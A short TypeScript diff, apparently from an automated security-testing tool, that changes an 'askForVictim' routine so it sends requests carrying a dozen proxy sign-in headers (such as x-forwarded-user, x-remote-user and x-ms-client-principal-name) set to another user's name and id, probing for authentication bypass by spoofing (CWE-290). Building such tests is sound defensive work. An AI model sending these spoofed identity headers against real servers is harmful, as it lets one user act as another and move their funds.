@@ -1,5 +1,5 @@
 import type { StepName } from '../../../servers/scheme.ts';
-import type { Credential, Reply } from '../../exchange.ts';
+import type { Credential, Reply, User } from '../../exchange.ts';
 import type { Attack, Judgement } from '../../kinds/attack.ts';
 import { bySpelling } from '../../kit/clients/by-spelling.ts';
 import type { Stage } from '../../stage.ts';
@@ -141,7 +141,7 @@ async function askForVictim(stage: Stage, step: 'transfer' | 'me', held: Credent
   const forms = [
     { ...request, path: `${request.path}?${new URLSearchParams(named)}` },
     { ...request, headers: { ...request.headers, ...body }, body: JSON.stringify(named) },
-    { ...request, headers: { ...request.headers, 'x-user-id': victim.id, 'x-forwarded-user': victim.username } },
+    { ...request, headers: { ...request.headers, ...proxyHeaders(victim) } },
   ].filter(({ method, body: sent }) => !(method === 'GET' && sent));
   const tries: Try[] = [];
   for (const form of forms) {
@@ -151,4 +151,13 @@ async function askForVictim(stage: Stage, step: 'transfer' | 'me', held: Credent
     tries.push({ step, as: 'user for another', status, done: isDone });
   }
   return tries;
+}
+
+/** In which proxies that sign people in tell servers who it is; believed only of those (CWE-290). */
+function proxyHeaders({ id, username }: User): Readonly<Record<string, string>> {
+  const names = [
+    ...['x-forwarded-user', 'x-remote-user', 'remote-user', 'x-auth-request-user', 'x-authenticated-user', 'x-user'],
+    ...['x-forwarded-preferred-username', 'x-webauth-user', 'x-ms-client-principal-name', 'x-consumer-username'],
+  ];
+  return { ...Object.fromEntries(names.map((name) => [name, username])), 'x-user-id': id, 'x-forwarded-user-id': id };
 }
